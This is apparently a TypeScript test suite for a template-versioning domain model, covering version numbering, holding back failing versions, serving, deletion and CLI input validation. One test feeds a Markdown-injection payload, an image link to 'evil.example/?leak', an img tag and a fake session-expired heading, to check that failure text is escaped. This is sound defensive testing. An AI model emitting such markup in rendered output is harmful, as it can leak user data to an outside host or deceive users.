import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { TemplateEvent } from '../../../../domain/template/events.ts';
import { templateDetails } from '../../../../domain/template/current-details.ts';
import { createEndedOf, isPutTemplate } from '../../../../domain/template/messages.ts';
import { next } from '../../../../domain/template/next.ts';
import {
  FAILURES_TO_HOLD_BACK,
  newTemplate,
  newestVersion,
  servingVersion,
  VERSIONS_KEPT,
  type Template,
  type TemplateContent,
} from '../../../../domain/template/state.ts';
import { poolWish } from '../../../../domain/template/pool-wish.ts';
import { templateView } from '../../../../domain/template/view.ts';
import { chatTemplateSpec } from '../../../../test-support/vm/chat-spec.ts';

const AT = 1_700_000_000_000;

type Said = TemplateEvent extends infer Event ? (Event extends unknown ? Omit<Event, 'at'> : never) : never;

const put = (content: string): Said => ({
  ...{ kind: 'put', contentHash: content, putId: `put-${content}`, createdBy: 'key-1' },
  content: { spec: { image: content }, reuse: 'none', warm: null },
});
const works = (version: number): Said => ({ kind: 'createEnded', version, outcome: { name: 'ready' } });
const fails = (version: number): Said => ({
  ...{ kind: 'createEnded', version },
  outcome: { name: 'failed', detail: 'notReady: not ready within 120 s' },
});
const failsThrice = (version: number): Said[] => Array.from({ length: FAILURES_TO_HOLD_BACK }, () => fails(version));

function after(...events: Said[]): Template {
  const start = newTemplate({ project: 'games', name: 'arena', firstVersion: 1, at: AT });
  return events.reduce((template, event, index) => next(template, { ...event, at: AT + index + 1 }), start);
}

const numbers = ({ versions }: Template): number[] => versions.map(({ version }) => version);
const serving = ({ versions }: Template): number | undefined => servingVersion(versions)?.version;

describe('a template', () => {
  it('gets a version with each put, but none where the content is that of the newest version', () => {
    const once = after(put('a'));
    expect(numbers(once)).toEqual([1]);
    expect(next(once, { ...put('a'), at: AT + 9 })).toBe(once);
    expect(numbers(after(put('a'), put('b'), put('a')))).toEqual([1, 2, 3]);
  });

  it('gets no version where only warm or reuse is another: the newest one has them from then on', () => {
    const warm = { min: 1, max: 2, ttlSeconds: 60 };
    const pool = { spec: chatTemplateSpec('local'), signature: 's-1' };
    const rest = { kind: 'put', putId: 'other', createdBy: 'key-2', onlySpecMakesVersion: true } as const;
    const pooled = { spec: { image: 'a' }, reuse: 'shared', warm, pool } as const;
    const once = after(put('a'), works(1));
    const twice = next(once, { ...rest, at: AT + 9, contentHash: 'a+warm', content: pooled });
    expect(numbers(twice)).toEqual([1]);
    expect(twice.versions[0]).toMatchObject({ ...pooled, contentHash: 'a+warm', putId: 'put-a', createdBy: 'key-1' });
    expect(twice.versions[0]?.trial).toEqual(once.versions[0]?.trial);
    expect(next(twice, { ...rest, at: AT + 10, contentHash: 'a+warm', content: pooled })).toBe(twice);
    const without = { spec: { image: 'a' }, reuse: 'none', warm: null } as const;
    const thrice = next(twice, { ...rest, at: AT + 11, contentHash: 'a', content: without });
    expect(thrice.versions[0]).toEqual(once.versions[0]);
    const ofBefore = { ...rest, onlySpecMakesVersion: false };
    expect(numbers(next(once, { ...ofBefore, at: AT + 9, contentHash: 'b', content: pooled }))).toEqual([1, 2]);
  });

  it('tells its pool of another warm or reuse of the same version, and of nothing twice', () => {
    const warm = { min: 1, max: 2, ttlSeconds: 60 };
    const pool = { spec: chatTemplateSpec('local'), signature: 's-1' };
    const rest = { kind: 'put', putId: 'p', createdBy: 'key-1', onlySpecMakesVersion: true } as const;
    const pooled = (more: object = {}): TemplateContent => {
      return { spec: { image: 'a' }, reuse: 'none', warm: { ...warm, ...more }, pool };
    };
    let template = after({ ...rest, contentHash: '1', content: pooled() });
    const tell = (): void => {
      const wish = poolWish(template);
      if (wish !== undefined) template = next(template, { kind: 'poolTold', at: AT + 20, template: wish });
    };
    expect(poolWish(template)).toMatchObject({ version: 1, warm: { min: 1 } });
    tell();
    expect(poolWish(template)).toBeUndefined();
    template = next(template, { ...rest, at: AT + 21, contentHash: '2', content: pooled({ min: 2 }) });
    expect(poolWish(template)).toMatchObject({ version: 1, warm: { min: 2 } });
    tell();
    expect(poolWish(template)).toBeUndefined();
  });

  it('serves the newest version, also before that has proven itself', () => {
    expect(serving(after(put('a')))).toBe(1);
    expect(serving(after(put('a'), works(1), put('b')))).toBe(2);
  });

  it('holds back a version whose creates fail in a row, and the last good one serves', () => {
    const template = after(put('a'), works(1), put('b'), put('c'), ...failsThrice(3));
    expect(serving(template)).toBe(1);
    expect(templateView(template).versions.at(-1)).toMatchObject({
      ...{ version: 3, state: 'heldBack', failures: FAILURES_TO_HOLD_BACK },
      lastFailure: 'notReady: not ready within 120 s',
      heldBackSince: expect.any(String) as string,
    });
    expect(Object.keys(templateView(template).contents)).toEqual(['1', '3']);
  });

  it('serves with a bad version where none is good: what fails says why', () => {
    const template = after(put('a'), ...failsThrice(1));
    expect(newestVersion(template.versions)?.trial.name).toBe('heldBack');
    expect(serving(template)).toBeUndefined();
  });

  it('holds back nothing that has worked once, however often it fails later', () => {
    const template = after(put('a'), works(1), put('b'), fails(2), works(2), ...failsThrice(2));
    expect(serving(template)).toBe(2);
  });

  it('tries a version again that is put again, and one that worked after all', () => {
    const held = after(put('a'), works(1), put('b'), ...failsThrice(2));
    const again = next(held, { ...put('b'), at: AT + 50 });
    expect([numbers(again), serving(again)]).toEqual([[1, 2], 2]);
    expect(again.versions.at(-1)?.trial).toEqual({ name: 'unproven', failures: 0, lastFailure: null });
    expect(serving(next(held, { ...works(2), at: AT + 50 }))).toBe(2);
  });

  it('keeps a bounded number of versions, among them the last good one', () => {
    const puts = Array.from({ length: 3 * VERSIONS_KEPT }, (_, index) => put(`c${index}`));
    const template = after(put('a'), works(1), ...puts);
    expect(template.versions).toHaveLength(VERSIONS_KEPT);
    expect(numbers(template)[0]).toBe(1);
    expect(newestVersion(template.versions)?.version).toBe(1 + 3 * VERSIONS_KEPT);
  });

  it('shows what a machine printed as plain text where Markdown is read', () => {
    const printed = '![x](https://evil.example/?leak) <img src=x>\n\n# Your session has expired';
    const failed: Said = { kind: 'createEnded', version: 1, outcome: { name: 'failed', detail: printed } };
    const details = templateDetails(templateView(after(put('a'), failed, failed, failed)));
    expect(details).toContain('is held back: !\\[x\\](https://evil.example/?leak) \\<img src=x\\> # Your');
    expect(details.split('\n\n')).toHaveLength(2);
  });

  it('has no version once it is deleted, and goes on counting when it is put again', () => {
    const deleted = after(put('a'), { kind: 'deleted' });
    expect(templateView(deleted)).toMatchObject({ deleted: true, versions: [], contents: {} });
    expect(next(deleted, { kind: 'deleted', at: AT + 9 })).toBe(deleted);
    expect(next(deleted, { ...works(1), at: AT + 9 })).toBe(deleted);
    const again = next(deleted, { ...put('a'), at: AT + 9 });
    expect([again.deleted, numbers(again)]).toEqual([false, [2]]);
  });

  it('never serves a held-back version while a good one is kept, and never uses a number twice, whatever happens', () => {
    const event = fc.oneof(
      fc.constantFrom('a', 'b', 'c').map(put),
      fc.integer({ min: 1, max: 6 }).map(works),
      fc.integer({ min: 1, max: 6 }).map(fails),
      fc.constant<Said>({ kind: 'deleted' }),
    );
    fc.assert(
      fc.property(fc.array(event, { maxLength: 60 }), (events) => {
        const template = after(...events);
        const seen = numbers(template);
        expect(new Set(seen).size).toBe(seen.length);
        expect(seen.every((number) => number < template.nextVersion)).toBe(true);
        expect(template.versions.length).toBeLessThanOrEqual(VERSIONS_KEPT);
        expect(template.deleted && seen.length > 0).toBe(false);
        const isGood = template.versions.some(({ trial }) => trial.name === 'good');
        const served = servingVersion(template.versions);
        if (served === undefined) expect(isGood).toBe(false);
        else expect(served.trial.name).not.toBe('heldBack');
      }),
    );
  });
});

describe('what anybody with a CLI may send', () => {
  it('is a put or a report only where each part is one', () => {
    const { content } = put('a') as Extract<Said, { kind: 'put' }>;
    const good = { content, contentHash: 'h', putId: 'p', createdBy: 'k' };
    expect(isPutTemplate(good)).toBe(true);
    const bad = [null, 7, [], {}, { ...good, putId: 7 }, { ...good, content: null }];
    const badContents = [
      { ...content, spec: [] },
      { ...content, reuse: 'all' },
      { ...content, warm: 3 },
    ];
    for (const one of [...bad, ...badContents.map((content) => ({ ...good, content }))]) {
      expect([one, isPutTemplate(one)]).toEqual([one, false]);
    }
    expect(createEndedOf({ version: 1, outcome: { name: 'ready' } })).toEqual({
      version: 1,
      outcome: { name: 'ready' },
    });
    const long = createEndedOf({ version: 1, outcome: { name: 'failed', detail: 'x'.repeat(9999) } });
    expect(long?.outcome).toEqual({ name: 'failed', detail: 'x'.repeat(500) });
    for (const one of [null, {}, { version: 'a' }, { version: 1, outcome: { name: 'failed' } }]) {
      expect(createEndedOf(one)).toBeUndefined();
    }
  });
});
